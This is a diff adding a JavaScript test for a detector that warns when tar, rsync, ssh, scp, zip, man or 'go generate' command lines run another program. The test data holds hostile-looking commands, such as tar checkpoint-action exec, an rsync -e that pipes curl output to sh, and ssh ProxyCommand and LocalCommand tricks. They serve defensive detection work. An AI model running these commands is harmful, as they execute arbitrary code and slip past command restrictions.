@@ -79,3 +79,33 @@ test('a line that trusts folder code for later (direnv allow, mise trust) or ins
   for (const line of ['direnv status', 'mise ls', 'code .', 'echo "direnv allow"'])
     assert.equal(loadedCodeWarning(line), undefined, line);
 });
+
+test('options that make a reading or copying program run another (tar, rsync, ssh, scp, zip, man) are named', () => {
+  for (const line of [
+    'tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh\\ evil.sh',
+    `tar -xf a.tar --to-command='sh -c id'`,
+    `tar -I './evil.sh' -xf a.tar`,
+    'tar --use-compress-program=./evil -xf a.tar',
+    `rsync -e 'sh -c "curl x | sh"' a b:`,
+    'rsync --rsync-path="sh evil" a host:b',
+    `ssh -o ProxyCommand='sh evil' host`,
+    'ssh -oLocalCommand=./x -oPermitLocalCommand=yes host',
+    'ssh -F ./ssh_config host',
+    'scp -S ./evil a host:b',
+    `zip x.zip a -T -TT 'sh evil'`,
+    'man -P ./evil ls',
+    'go generate ./...',
+  ])
+    assert.match(loadedCodeWarning(line) ?? '', /it runs .*(?:an option naming a program|go generate)/, line);
+  for (const line of [
+    'tar -xzf a.tgz -C out',
+    'rsync -av a/ b/',
+    'ssh -p 22 host ls',
+    'ssh -o StrictHostKeyChecking=no host',
+    'scp a host:b',
+    'zip -r x.zip a',
+    'man ls',
+    'go test ./...',
+  ])
+    assert.equal(loadedCodeWarning(line), undefined, line);
+});
